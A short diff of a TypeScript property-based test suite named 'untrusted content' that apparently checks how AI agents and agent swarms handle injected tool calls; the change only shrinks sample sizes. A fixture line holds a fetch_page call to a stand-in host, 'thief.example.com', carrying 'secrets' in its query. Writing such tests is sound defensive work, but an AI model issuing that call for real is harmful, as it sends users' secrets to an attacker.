@@ -241,10 +241,10 @@ describe('untrusted content', () => {
       { tool: 'fetch_page', payload: { url: 'http://thief.example.com/?q=secrets' } },
       { tool: 'own_page', payload: { url: 'own' } },
     )
-    const documents = fc.sample(fc.array(order, { minLength: 1, maxLength: 4 }), proofSize(10, 500))
+    const documents = fc.sample(fc.array(order, { minLength: 1, maxLength: 4 }), proofSize(10, 125))
     const { clock, tenant } = room
     const rooms = await Promise.all(
-      Array.from({ length: proofSize(2, 8) }, async (): Promise<Rooms> => {
+      Array.from({ length: Math.min(8, proofSize(2, 8)) }, async (): Promise<Rooms> => {
         const swarm = await openSwarmRoom(obedientSwarms(web), 1, { clock, tenant }, tools())
         return { single: await openAgentRoom(agents, tools(), [obedient], [], { clock, tenant }), swarm }
       }),
